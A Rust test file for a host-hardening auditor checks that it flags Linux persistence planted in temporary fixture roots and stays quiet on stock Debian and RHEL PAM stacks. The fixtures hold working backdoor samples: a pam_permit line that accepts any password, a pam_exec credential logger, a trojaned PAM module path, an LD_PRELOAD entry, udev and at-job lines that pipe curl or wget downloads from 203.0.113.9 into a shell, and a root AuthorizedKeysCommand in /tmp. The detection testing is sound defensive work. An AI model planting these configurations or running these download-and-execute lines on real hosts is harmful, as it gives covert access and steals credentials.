//! Persistence the planted-compromise roots showed slipping past: PAM backdoors, a preload in
//! /etc/environment, udev rules that run payloads, and at jobs; with the stock Debian and RHEL
//! PAM stacks, which must stay quiet.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use ferret_core::{Control, Finding, HostRoot, Severity};
use ferret_harden::{audit_root, Check, HardenOptions};
use std::path::Path;

use ferret_testkit::put as w;

fn run(root: &Path) -> Vec<Finding> {
    let mut o = HardenOptions::default();
    o.checks = vec![Check::Persistence];
    audit_root(&HostRoot::new(root).unwrap(), &o, &Control::new()).findings
}

/// Debian 12's common-auth/common-account/sshd and Rocky 9's system-auth, as shipped.
fn stock_pam(root: &Path) {
    w(
        root,
        "/etc/pam.d/common-auth",
        "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\nauth\toptional\t\t\tpam_cap.so\n",
    );
    w(
        root,
        "/etc/pam.d/common-account",
        "account\t[success=1 new_authtok_reqd=done default=ignore]\tpam_unix.so\naccount\trequisite\t\t\tpam_deny.so\naccount\trequired\t\t\tpam_permit.so\n",
    );
    w(
        root,
        "/etc/pam.d/sshd",
        "@include common-auth\naccount    required     pam_nologin.so\n@include common-account\nsession [success=ok ignore=ignore module_unknown=ignore default=bad]        pam_selinux.so close\nsession    required     pam_loginuid.so\n-session   optional     pam_systemd.so\n",
    );
    w(
        root,
        "/etc/pam.d/system-auth",
        "auth        required      pam_env.so\nauth        required      pam_faildelay.so delay=2000000\nauth        sufficient    pam_unix.so nullok\nauth        required      pam_deny.so\naccount     required      pam_unix.so\npassword    sufficient    pam_unix.so sha512 shadow nullok use_authtok\nsession     optional      pam_keyinit.so revoke\nsession     required      pam_limits.so\n-session    optional      pam_systemd.so\n",
    );
    w(
        root,
        "/etc/pam.d/su",
        "auth       sufficient pam_rootok.so\nauth       include    system-auth\n",
    );
}

#[test]
fn stock_pam_stacks_are_quiet() {
    let t = tempfile::tempdir().unwrap();
    stock_pam(t.path());
    w(
        t.path(),
        "/etc/environment",
        "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin\"\n",
    );
    w(
        t.path(),
        "/usr/lib/udev/rules.d/60-persistent-storage.rules",
        "KERNEL==\"sd*\", ENV{DEVTYPE}==\"disk\", IMPORT{program}=\"scsi_id --export --whitelisted -d $devnode\"\nACTION==\"add\", RUN+=\"/usr/bin/systemctl --no-block start foo.service\"\n",
    );
    let f = run(t.path());
    assert!(f.is_empty(), "{f:#?}");
}

#[test]
fn pam_backdoors_are_found() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    stock_pam(root);
    // Any password: a line put first in sshd's stack.
    w(
        root,
        "/etc/pam.d/sshd",
        "auth sufficient pam_permit.so\n@include common-auth\naccount    required     pam_nologin.so\n",
    );
    // A credential logger and a trojaned module outside the module directory.
    w(
        root,
        "/etc/pam.d/common-auth",
        "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\tpam_deny.so\nauth\trequired\tpam_permit.so\nauth optional pam_exec.so quiet expose_authtok /usr/local/bin/.pwlog\n",
    );
    w(
        root,
        "/etc/pam.d/system-auth",
        "auth        sufficient    /usr/lib64/.cache/pam_unix.so nullok\nauth        required      pam_deny.so\n",
    );
    let f = run(root);
    let one = |id: &str| {
        let v: Vec<&Finding> = f.iter().filter(|x| x.id == id).collect();
        assert_eq!(v.len(), 1, "{id}: {f:#?}");
        v[0]
    };
    let permit = one("persistence.pam-permit");
    assert_eq!(permit.severity, Severity::Critical);
    assert_eq!(permit.subject, "/etc/pam.d/sshd");
    assert_eq!(permit.evidence[0].line, Some(1));
    assert_eq!(permit.attack, ["T1556.003"]);
    let exec = one("persistence.pam-exec-authtok");
    assert_eq!(exec.subject, "/etc/pam.d/common-auth");
    assert_eq!(exec.evidence[0].line, Some(4));
    let path = one("persistence.pam-module-path");
    assert_eq!(path.subject, "/etc/pam.d/system-auth");
    assert_eq!(f.len(), 3, "{f:#?}");
}

#[test]
fn environment_preload_udev_and_at_jobs() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    w(
        root,
        "/etc/environment",
        "PATH=\"/usr/local/bin:/usr/bin\"\nLD_PRELOAD=/usr/local/lib/.libnetd.so\n",
    );
    w(
        root,
        "/etc/udev/rules.d/99-net.rules",
        "# network\nACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'curl -s http://203.0.113.9/u|sh'\"\n",
    );
    // An at job as atd writes it (Debian's spool), and one in RHEL's.
    let job = "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\nwget -q -O- http://203.0.113.9/at.sh | bash\n";
    w(root, "/var/spool/cron/atjobs/a0000101a2b3c4", job);
    w(root, "/var/spool/at/a0000201a2b3c5", job);
    let f = run(root);
    let env: Vec<&Finding> = f
        .iter()
        .filter(|x| x.id == "persistence.environment-preload")
        .collect();
    assert_eq!(env.len(), 1, "{f:#?}");
    assert_eq!(env[0].evidence[0].line, Some(2));
    let udev: Vec<&Finding> = f
        .iter()
        .filter(|x| x.id == "persistence.udev-run")
        .collect();
    assert_eq!(udev.len(), 1, "{f:#?}");
    assert_eq!(udev[0].subject, "/etc/udev/rules.d/99-net.rules");
    assert_eq!(udev[0].evidence[0].line, Some(2));
    let mut at: Vec<&str> = f
        .iter()
        .filter(|x| x.id == "persistence.cron-download-exec")
        .map(|x| x.subject.as_str())
        .collect();
    at.sort_unstable();
    assert_eq!(
        at,
        [
            "/var/spool/at/a0000201a2b3c5",
            "/var/spool/cron/atjobs/a0000101a2b3c4"
        ],
        "{f:#?}"
    );
}

/// `AuthorizedKeysCommand` running a hidden script from /tmp as root: sshd lets in any key it
/// prints. A packaged cloud helper (EC2 Instance Connect) stays quiet.
#[test]
fn authorized_keys_command_backdoor() {
    let sshd = |root: &Path| {
        let mut o = HardenOptions::default();
        o.checks = vec![Check::Sshd];
        audit_root(&HostRoot::new(root).unwrap(), &o, &Control::new()).findings
    };
    let t = tempfile::tempdir().unwrap();
    let root = t.path();
    w(
        root,
        "/etc/ssh/sshd_config",
        "PermitRootLogin no\nPasswordAuthentication no\nAuthorizedKeysCommand /usr/share/ec2-instance-connect/eic_run_authorized_keys %u %f\nAuthorizedKeysCommandUser ec2-instance-connect\n",
    );
    w(
        root,
        "/usr/share/ec2-instance-connect/eic_run_authorized_keys",
        "#!/bin/sh\n",
    );
    let f = sshd(root);
    assert!(
        !f.iter().any(|x| x.id == "sshd.authorized-keys-command"),
        "{f:#?}"
    );
    w(
        root,
        "/etc/ssh/sshd_config",
        "PermitRootLogin no\nPasswordAuthentication no\nAuthorizedKeysCommand /tmp/.k.sh %u\nAuthorizedKeysCommandUser root\n",
    );
    let f = sshd(root);
    let k: Vec<&Finding> = f
        .iter()
        .filter(|x| x.id == "sshd.authorized-keys-command")
        .collect();
    assert_eq!(k.len(), 1, "{f:#?}");
    assert_eq!(k[0].severity, Severity::High);
    assert_eq!(k[0].evidence[0].line, Some(3));
    assert!(
        k[0].detail
            .as_deref()
            .unwrap()
            .starts_with("its path has a hidden component"),
        "{:?}",
        k[0].detail
    );
}
